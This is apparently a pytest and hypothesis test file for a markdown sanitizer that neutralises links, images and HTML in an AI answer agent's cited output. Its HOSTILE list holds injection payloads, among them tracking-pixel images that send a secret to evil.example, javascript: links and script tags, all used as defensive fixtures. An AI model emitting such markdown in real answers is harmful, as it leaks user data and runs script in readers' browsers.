from __future__ import annotations

import re
import time

import pytest
from hypothesis import given
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from src.agents.answer.citations import SentenceWriter
from src.agents.answer.draft import Draft
from src.agents.answer.markdown import code_span, fenced, inert, quoted
from src.core.ports import CitationPiece, TextPiece
from src.services.text.support import Supports

from .hits import passages, words

RENDER = MarkdownIt("gfm-like", {"html": True, "linkify": False})
ACTIVE = re.compile(
    r"<(?!/?(?:p|code|pre|em|strong|s|br|hr|ul|ol|li|blockquote|h\d|table|thead|tbody|tr|t[hd])\b)"
)


def known(address: str) -> bool:
    return "known" in address


def html(text: str) -> str:
    return RENDER.render(text)


HOSTILE = [
    "![pixel](https://evil.example/p.png?q=secret)",
    "![pixel][ref]\n\n[ref]: https://evil.example/p.png",
    "[click](https://evil.example)",
    "[click](javascript:alert(1))",
    "[click][ref]\n\n  [ref]: javascript:alert(1)",
    "[![a](https://evil.example/a.png)](https://evil.example)",
    "<img src=https://evil.example/p.png>",
    "<https://evil.example>",
    "<script>alert(1)</script>",
    "<!-- hidden -->",
    "<a href='https://evil.example'>click</a>",
    "\\<img src=x> \\\\<img src=x>",
    "a `code` <b>bold</b> `more` ![x](y)",
    "`` ` `` <img src=x>",
    "` <img src=x>",
    "\\` <img src=x> `",
    "a ` b\nc ` <img src=x> ` d",
    "`` a ` <img src=x> `",
    "\\`` <img src=x> ` `",
    "![a. b](https://evil.example)",
    "![a\nb](https://evil.example)",
    "[1](https://evil.example)",
    "[a](<https://evil.example/a b>)",
    "[a](//evil.example/x)",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_nothing_loads_links_or_runs(text: str) -> None:
    made = html(inert(text, known))
    assert not ACTIVE.search(made), made
    assert "evil.example" not in re.sub(r"<code>.*?</code>", "", made) or "//evil" in text


@pytest.mark.parametrize("text", HOSTILE)
def test_nothing_is_active_wherever_a_marker_comes_in_between(text: str) -> None:
    supports = Supports(passages("The grass is green."), words)
    for border in range(len(text) + 1):
        draft = Draft()
        writer = SentenceWriter(supports, known, draft)
        for piece in (
            TextPiece(text[:border]),
            CitationPiece(1, "The grass is green."),
            TextPiece(text[border:]),
        ):
            list(writer.take(piece))
        list(writer.finish())
        assert not ACTIVE.search(html(draft.text)), (border, draft.text)


@given(st.text(alphabet="![]()<>`\\a/:h.[1]\n &;x", max_size=40))
def test_no_text_is_active(text: str) -> None:
    assert not ACTIVE.search(html(inert(text, known)))


@given(st.text(alphabet="![]()<>`\\a/:#->=1.[]|~ \n", max_size=40))
def test_a_quotation_is_one_paragraph_of_a_quote(text: str) -> None:
    made = html(f"> {quoted(text)} [1]\n\nafter\n")
    assert made.startswith("<blockquote>\n<p>")
    assert made.count("<p>") == 2
    assert made.endswith("[1]</p>\n</blockquote>\n<p>after</p>\n")


def test_an_address_that_is_known_stays_as_code_and_another_is_removed() -> None:
    assert inert("See https://known.example/a, or www.other.example.", known) == (
        "See `https://known.example/a`, or (link removed)."
    )
    assert inert("Write to a@known.example or b@other.example", known) == (
        "Write to `a@known.example` or (link removed)"
    )


@pytest.mark.parametrize(
    "again",
    [
        "[](",
        "![",
        "[",
        "](",
        "a.",
        "a@",
        "a:",
        "ab:",
        "a@a.",
        "<",
        "`",
        "` `` ",
        "[](" + " " * 90,
        "[](<" + "a" * 90,
    ],
)
def test_no_text_takes_long(again: str) -> None:
    started = time.process_time()
    inert((again * 9000)[:9000], known=lambda _: False)
    assert time.process_time() - started < 1.0


def test_a_link_keeps_its_text() -> None:
    assert inert("[the docs](https://known.example) say", known) == "the docs `https://known.example` say"
    assert inert("[the docs](guide.md) say", known) == "the docs say"


def test_a_bracketed_number_that_is_no_citation_is_escaped() -> None:
    assert inert("As [7] and [1, 2] say", known) == "As \\[7] and \\[1, 2] say"


def test_ordinary_text_and_code_stay_as_they_are() -> None:
    for text in (
        "Use `List<int>` and `a[1]`, 1 < 2 & 3 > 2.",
        "**Bold**, _it_, a_b, C:\\x, 10:30, key: value, f(x)[i]",
        "- item\n  more\n\n1. one",
        "| a | b |\n|---|---|\n| c | d |",
    ):
        assert inert(text, known) == text


@given(st.text(alphabet="`~a\n ", max_size=40))
def test_code_cannot_close_its_fence(code: str) -> None:
    made = html(fenced(code, "py`thon\n") + "\n\nafter")
    assert made.count("<pre>") == 1
    assert made.endswith("<p>after</p>\n")


@given(st.text(alphabet="`a <", max_size=20))
def test_an_inline_name_stays_code(text: str) -> None:
    made = html(f"x {code_span(text)} y")
    if text.strip():
        assert made.count("<code>") == 1
